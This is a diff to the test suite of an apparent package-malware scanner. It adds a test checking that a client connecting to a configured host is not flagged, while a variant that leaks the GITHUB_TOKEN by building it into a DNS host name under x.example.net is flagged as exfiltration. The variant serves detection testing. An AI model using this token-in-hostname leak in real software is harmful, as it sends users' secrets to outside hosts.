@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import base64
 
+from chainwatch.packages import signals as sg
 from tests.packages.helpers import facts_of, sdist, verdict, wheel_bytes
 
 SETUP = "from setuptools import setup\nsetup(name='x', version='1.0')\n"
@@ -297,3 +298,32 @@ def test_chat_client_started_by_setup_is_install_time_network() -> None:
              'TOKEN = "x"\nsetup(name="chatinst", version="1.0", cmdclass={"install": Post})\n')
     v, strong = verdict(sdist("chatinst", "1.0", {"setup.py": setup}))
     assert v != "clean" and "package.install-network:high" in strong
+
+
+def test_connecting_to_a_configured_host_is_not_exfiltration() -> None:
+    """A client keeps host/port read from the environment on self and connects later (github-copilot-sdk
+    does this): the address is configuration, not a payload. A secret built into the host name is."""
+    client = '''import os, re, socket, subprocess
+
+class Client:
+    def __init__(self):
+        self._host = "localhost"
+        env = dict(os.environ)
+        env["TOKEN"] = os.environ.get("GITHUB_TOKEN", "")
+        self._token = os.environ.get("GITHUB_TOKEN")
+        self._proc = subprocess.Popen(["copilot", "--port", "0"], env=env, stdout=subprocess.PIPE)
+        line = self._proc.stdout.readline().decode()
+        self._port = int(re.search(r"port (\\d+)", line).group(1))
+
+    def connect(self):
+        return socket.create_connection((self._host, self._port), timeout=10)
+'''
+    v, strong = verdict(_wheel("cfgclient", {"cfgclient/__init__.py": "", "cfgclient/client.py": client}))
+    assert v == "clean", strong
+    flows = [s for s in facts_of(_wheel("cfgclient", {"cfgclient/__init__.py": "", "cfgclient/client.py": client}))
+             .signals if s.kind == sg.EXFIL_FLOW]
+    assert flows == []
+    leak = client.replace("(self._host, self._port)", '(f"{self._token}.x.example.net", 53)')
+    flows = [s for s in facts_of(_wheel("cfgclient", {"cfgclient/__init__.py": "", "cfgclient/client.py": leak}))
+             .signals if s.kind == sg.EXFIL_FLOW]
+    assert flows and "env-secret" in flows[0].detail["sources"], flows
